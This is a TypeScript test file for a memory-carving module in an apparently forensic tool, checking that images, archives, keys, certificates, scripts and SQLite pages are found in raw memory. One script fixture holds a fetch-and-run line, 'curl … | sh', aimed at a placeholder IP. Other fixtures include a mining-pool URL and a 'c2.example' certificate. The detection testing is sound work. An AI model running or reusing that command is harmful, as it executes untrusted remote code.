import { execFileSync, spawnSync } from 'node:child_process';
import { createHmac, createSign, generateKeyPairSync } from 'node:crypto';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { crc32, deflateSync } from 'node:zlib';
import Database from 'better-sqlite3';
import fc from 'fast-check';
import { afterAll, describe, expect, it } from 'vitest';
import { createEntropyMeter } from '../../../electron/analysis/carving/entropy.ts';
import { createCarver, type FoundItem } from '../../../electron/analysis/carving/find-carved.ts';
import { CARVED_KINDS, type CarvedKind } from '../../../electron/analysis/carving/types.ts';

const folder = mkdtempSync(join(tmpdir(), 'permafrost-carve-'));
afterAll(() => rmSync(folder, { recursive: true, force: true }));

/** Memory that begins at `base`; pieces of `piece` bytes. */
function carve(
  bytes: Uint8Array,
  kinds: readonly CarvedKind[] = CARVED_KINDS,
  piece = 4096,
  base = 0x7000_0000n,
): FoundItem[] {
  const view = {
    bytes: (address: bigint, length: number) => {
      const from = Number(address - base);
      return from < 0 ? new Uint8Array(0) : bytes.subarray(from, from + length);
    },
  };
  const carver = createCarver(view, new Set(kinds));
  const found: FoundItem[] = [];
  for (let at = 0; at < bytes.length; at += piece) {
    found.push(...carver.push(base + BigInt(at), bytes.subarray(at, at + piece)));
  }
  return found;
}

function png(): Buffer {
  const chunk = (type: string, body: Buffer): Buffer => {
    const typed = Buffer.concat([Buffer.from(type), body]);
    const head = Buffer.alloc(4);
    const tail = Buffer.alloc(4);
    head.writeUInt32BE(body.length);
    tail.writeUInt32BE(crc32(typed));
    return Buffer.concat([head, typed, tail]);
  };
  const header = Buffer.from([0, 0, 0, 3, 0, 0, 0, 2, 8, 2, 0, 0, 0]);
  const rows = Buffer.from(Array.from({ length: 2 * 10 }, (_, index) => (index % 10 === 0 ? 0 : index * 9)));
  return Buffer.concat([
    Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'),
    chunk('IHDR', header),
    chunk('IDAT', deflateSync(rows)),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

function zip(): Buffer {
  const script =
    "import io,sys,zipfile\nb=io.BytesIO()\nz=zipfile.ZipFile(b,'w',zipfile.ZIP_DEFLATED)\n" +
    "z.writestr('one.txt','first '*200)\nz.writestr('d/two.txt','second')\nz.close()\nsys.stdout.buffer.write(b.getvalue())";
  return execFileSync('python3', ['-c', script]);
}

function jwt(): Buffer {
  const part = (value: object): string => Buffer.from(JSON.stringify(value)).toString('base64url');
  const signed = `${part({ alg: 'HS256', typ: 'JWT' })}.${part({ sub: 'admin', iss: 'acme' })}`;
  return Buffer.from(`${signed}.${createHmac('sha256', 'key').update(signed).digest('base64url')}`);
}

/** A database of 300 rows, as SQLite itself writes it. */
const database = ((): Buffer => {
  const path = join(folder, 'orders.db');
  const db = new Database(path);
  db.exec('CREATE TABLE orders (id INTEGER PRIMARY KEY, customer TEXT, total REAL)');
  const insert = db.prepare('INSERT INTO orders (customer, total) VALUES (?, ?)');
  db.transaction(() => {
    for (let index = 0; index < 300; index++) insert.run(`customer ${index}`, index * 1.25);
  })();
  db.close();
  return readFileSync(path);
})();

const { privateKey, publicKey } = generateKeyPairSync('ec', { namedCurve: 'P-256' });
const hasPython = spawnSync('python3', ['--version']).status === 0;
const hasOpenssl = spawnSync('openssl', ['version']).status === 0;

function certificate(): Buffer {
  const key = join(folder, 'key.pem');
  writeFileSync(key, privateKey.export({ type: 'pkcs8', format: 'pem' }));
  return execFileSync('openssl', ['req', '-x509', '-key', key, '-subj', '/CN=c2.example', '-days', '9']);
}

const SAMPLES: readonly (readonly [CarvedKind, () => Buffer, boolean])[] = [
  ['png', png, true],
  ['zip', zip, hasPython],
  ['jwt', jwt, true],
  [
    'private-key',
    () => Buffer.from(privateKey.export({ type: 'pkcs8', format: 'pem' })).subarray(0, -1),
    true,
  ],
  [
    'private-key',
    () => Buffer.from(privateKey.export({ type: 'sec1', format: 'pem' })).subarray(0, -1),
    true,
  ],
  ['public-key', () => Buffer.from(publicKey.export({ type: 'spki', format: 'pem' })).subarray(0, -1), true],
  ['certificate', () => certificate().subarray(0, -1), hasOpenssl],
  [
    'json',
    () => Buffer.from(JSON.stringify({ pool: 'stratum+tcp://x:3333', threads: [1, 2, { a: null }] })),
    true,
  ],
  ['script', () => Buffer.from('#!/bin/sh\nset -e\ncurl -s http://203.0.113.66/x | sh\n'), true],
  ['sqlite', () => Buffer.from(database), true],
];

describe('carving', () => {
  it.each(SAMPLES)('finds %s whole, wherever it lies and across every border', (kind, make, available) => {
    if (!available) return;
    const sample = make();
    fc.assert(
      fc.property(fc.integer({ min: 1, max: 4200 }), fc.constantFrom(64, 512, 4096, 65_536), (at, piece) => {
        const memory = Buffer.concat([Buffer.alloc(at), sample, Buffer.alloc(40)]);
        const found = carve(memory, [kind], piece).filter((item) => item.kind === kind);
        expect(found).toMatchObject([
          { address: 0x7000_0000n + BigInt(at), length: sample.length, complete: true },
        ]);
      }),
      { numRuns: 25 },
    );
  });

  it('finds the leaf pages of a real database one by one', () => {
    const file = database;
    const leaves = Array.from({ length: file.length / 4096 }, (_, page) => page).filter(
      (page) => page > 0 && file[page * 4096] === 0x0d,
    );
    expect(leaves.length).toBeGreaterThan(1);
    const found = carve(file, ['sqlite-page']);
    expect(found.map(({ address }) => Number(address - 0x7000_0000n) / 4096)).toEqual(leaves);
    const rows = found.map(({ detail }) => Number(/(\d+) rows/.exec(detail)![1]));
    expect(rows.reduce((sum, count) => sum + count, 0)).toBe(300);
  });

  it('carves a program of this machine to its last byte', () => {
    const program = readFileSync('/bin/true');
    if (program.subarray(0, 4).toString('latin1') !== '\x7fELF') return;
    const memory = Buffer.concat([Buffer.alloc(4096), program, Buffer.alloc(4096)]);
    expect(carve(memory, ['elf'])[0]).toMatchObject({
      address: 0x7000_1000n,
      length: program.length,
      complete: true,
    });
  });

  it('states what is missing of a cut item and does not call it complete', () => {
    for (const [kind, make, available] of SAMPLES) {
      if (!available || kind === 'json' || kind === 'script' || kind === 'jwt') continue;
      const sample = make();
      const cut = sample.subarray(0, sample.length - 24);
      const found = carve(Buffer.concat([Buffer.alloc(64), cut]), [kind]).filter(
        (item) => item.kind === kind,
      );
      for (const item of found) expect(item.complete).toBe(false);
    }
    const damaged = png();
    damaged[40] = damaged[40]! ^ 0xff;
    expect(carve(damaged, ['png'])).toMatchObject([{ complete: false }]);
  });

  it('takes nothing for an item by its magic alone', () => {
    const lures = [
      '\x7fELF',
      '#!',
      '#!/bin/sh',
      'PK\x03\x04',
      '\x89PNG\r\n\x1a\n',
      'eyJ.eyJ.x',
      '{"a',
      'SQLite format 3\0',
    ];
    const text = lures.map((lure) => `\0\0\0${lure}\0\0\0${'Z'.repeat(80)}`).join('');
    expect(carve(Buffer.from(`${text}-----BEGIN CERTIFICATE-----\n!!!`, 'latin1'))).toEqual([]);
  });

  it('never throws on bytes of any kind, magics among them', () => {
    const magic = fc.constantFrom(
      ...[
        '\x7fELF\x02\x01\x01',
        '#!/',
        '-----BEGIN CERTIFICATE-----\n',
        'eyJ',
        '{"',
        '[{',
        'PK\x03\x04\x14\0',
        'PK\x05\x06',
        '\x89PNG\r\n\x1a\n',
        'SQLite format 3\0',
        '\r\0\0\0\x02',
      ],
    );
    const bytes = fc
      .array(
        fc.oneof(
          fc.uint8Array({ maxLength: 200 }),
          magic.map((text) => Buffer.from(text, 'latin1')),
        ),
        {
          maxLength: 24,
        },
      )
      .map((parts) => new Uint8Array(Buffer.concat(parts)));
    fc.assert(
      fc.property(bytes, (memory) => {
        for (const { address, length } of carve(memory, CARVED_KINDS, 64)) {
          expect(length).toBeGreaterThan(0);
          expect(Number(address - 0x7000_0000n) + length).toBeLessThanOrEqual(memory.length);
        }
      }),
      { numRuns: 1500 },
    );
  });

  it('never throws on a damaged item', () => {
    for (const [kind, make, available] of SAMPLES) {
      if (!available) continue;
      const sample = make();
      fc.assert(
        fc.property(
          fc.array(fc.tuple(fc.nat(sample.length - 1), fc.nat(255)), { maxLength: 6 }),
          (changes) => {
            const memory = Buffer.from(sample);
            for (const [at, value] of changes) memory[at] = value;
            for (const { address, length } of carve(memory, [kind])) {
              expect(Number(address - 0x7000_0000n) + length).toBeLessThanOrEqual(memory.length);
            }
          },
        ),
        { numRuns: 60 },
      );
    }
  });

  it('does bounded work on memory that is nothing but beginnings', () => {
    let read = 0;
    for (const lure of [
      '{"',
      '{"a":',
      '[{',
      '-----BEGIN CERTIFICATE-----\n',
      'eyJhIjox.',
      '#!/a\n',
      'PK\x03\x04\x14\0\0\0\0\0',
    ]) {
      const memory = Buffer.alloc(2 ** 20, lure, 'latin1');
      const view = {
        bytes: (address: bigint, length: number) => {
          const part = memory.subarray(Number(address), Number(address) + length);
          read += part.length;
          return part;
        },
      };
      createCarver(view, new Set(CARVED_KINDS)).push(0n, memory);
    }
    expect(read).toBeLessThan(7 * 80 * 2 ** 20);
  });

  it('agrees with the definition of entropy', () => {
    const meter = createEntropyMeter();
    meter.add(Buffer.from([0, 0, 1, 1]));
    meter.add(Buffer.from([2, 2, 3, 3]));
    expect(meter.value()).toBe(2);
    const flat = createEntropyMeter();
    flat.add(Buffer.alloc(100));
    expect(flat.value()).toBe(0);
  });

  it.runIf(spawnSync('unzip', ['-v']).status === 0 && hasPython)('gives an archive that unzip tests', () => {
    const memory = Buffer.concat([Buffer.alloc(100, 1), zip(), Buffer.alloc(50, 2)]);
    const [item] = carve(memory, ['zip']);
    const path = join(folder, 'carved.zip');
    writeFileSync(
      path,
      memory.subarray(
        Number(item!.address - 0x7000_0000n),
        Number(item!.address - 0x7000_0000n) + item!.length,
      ),
    );
    expect(spawnSync('unzip', ['-t', path]).status).toBe(0);
  });

  it('says who issued nothing it can not read: a certificate that is none is not complete', () => {
    const { privateKey: rsa } = generateKeyPairSync('rsa', { modulusLength: 1024 });
    const body = createSign('sha256').update('x').sign(rsa).toString('base64');
    const fake = Buffer.from(`-----BEGIN CERTIFICATE-----\n${body}\n-----END CERTIFICATE-----`);
    expect(carve(fake, ['certificate'])).toMatchObject([{ complete: false, length: fake.length }]);
  });
});
